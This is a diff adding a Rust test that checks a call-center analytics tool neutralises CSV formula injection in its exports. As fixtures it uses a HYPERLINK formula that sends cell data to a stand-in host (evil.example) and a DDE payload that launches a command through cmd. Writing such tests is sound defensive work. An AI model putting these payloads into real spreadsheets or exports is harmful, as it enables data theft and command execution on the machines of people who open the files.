@@ -130,3 +130,99 @@ async fn exports_stream_the_views_as_csv() {
         "the stand-in view has no department_id"
     );
 }
+
+/// CSV injection: a name a person typed into the operator file and a recommendation the
+/// model wrote, both formulas, come out as text a spreadsheet shows and does not run;
+/// numbers, negative ones included, stay numbers.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn cells_a_spreadsheet_would_run_are_written_as_text() {
+    let mut world = World::default();
+    world.calls[0]
+        .phrases
+        .push((false, "[recommendation:formula]".into()));
+    let h = Harness::start(world).await;
+    assert_eq!(h.run(&[]).await, ExitCode::Ok);
+
+    // After the run (the run matches T-Bank's names against the directory), the directory
+    // is imported again with a formula for a name, quoted as Excel writes such a cell.
+    let name = r#"=HYPERLINK("http://evil.example/?d="&A1,"Клик")"#;
+    let operators = h.dir.path().join("operators.csv");
+    std::fs::write(
+        &operators,
+        format!(
+            "id;full_name;department_id;office;supervisor\n5512;\"{}\";1;;\n",
+            name.replace('"', "\"\"")
+        ),
+    )
+    .unwrap();
+    let shown = operators.display().to_string();
+    assert_eq!(
+        h.callq(&["operators", "import", &shown]).await,
+        ExitCode::Ok
+    );
+    let c = h.db.client().await;
+    let stored: String = c
+        .query_one("SELECT full_name FROM operators WHERE id = 5512", &[])
+        .await
+        .unwrap()
+        .get(0);
+    assert_eq!(stored, name, "imported as written");
+    // A negative score next to a reason that starts like one: only the text is a risk.
+    c.batch_execute(
+        "UPDATE call_evaluations SET score = -0.5, reason = '-1+cmd|'' /C calc''!A0'
+         WHERE id = (SELECT min(id) FROM call_evaluations WHERE call_id = 90000000)",
+    )
+    .await
+    .unwrap();
+
+    let out = h.dir.path().join("export.csv");
+    let out_s = out.display().to_string();
+    let export = |kind: &'static str| {
+        let out_s = out_s.clone();
+        let h = &h;
+        async move {
+            h.callq(&["export", kind, "--out", &out_s, "--delimiter", ";"])
+                .await
+        }
+    };
+    let column = |header: &[String], name: &str| header.iter().position(|c| c == name).unwrap();
+
+    assert_eq!(export("recommendations").await, ExitCode::Ok);
+    let raw = String::from_utf8(std::fs::read(&out).unwrap()[3..].to_vec()).unwrap();
+    // Quoted as CSV requires (the name has quotes), the apostrophe inside the quotes.
+    assert!(
+        raw.contains(r#";"'=HYPERLINK(""http://evil.example/?d=""&A1,""Клик"")";"#),
+        "{raw}"
+    );
+    let (header, rows, _) = read(&out);
+    let (rec, name_col) = (
+        column(&header, "recommendation"),
+        column(&header, "operator_name"),
+    );
+    let call = rows.iter().find(|r| r[0] == "90000000").unwrap();
+    assert_eq!(call[rec], "'+1+cmd|' /C calc'!A0");
+    assert_eq!(call[name_col], format!("'{name}"));
+    assert!(
+        rows.iter()
+            .filter(|r| r[0] != "90000000")
+            .all(|r| r[rec] == "Задавать открытые вопросы"),
+        "ordinary text is left alone"
+    );
+
+    assert_eq!(export("evaluations").await, ExitCode::Ok);
+    let (header, rows, _) = read(&out);
+    let (score, reason) = (column(&header, "score"), column(&header, "reason"));
+    let first = rows.iter().find(|r| r[0] == "90000000").unwrap();
+    assert_eq!(first[score], "-0.5", "a number stays a number");
+    assert_eq!(first[reason], "'-1+cmd|' /C calc'!A0");
+    assert!(
+        rows.iter()
+            .all(|r| !r[column(&header, "max_score")].starts_with('\''))
+    );
+
+    assert_eq!(export("calls").await, ExitCode::Ok);
+    let (header, rows, _) = read(&out);
+    let call = rows.iter().find(|r| r[0] == "90000000").unwrap();
+    assert_eq!(call[column(&header, "operator_name")], format!("'{name}"));
+    assert_eq!(call[column(&header, "operator_id")], "5512");
+}
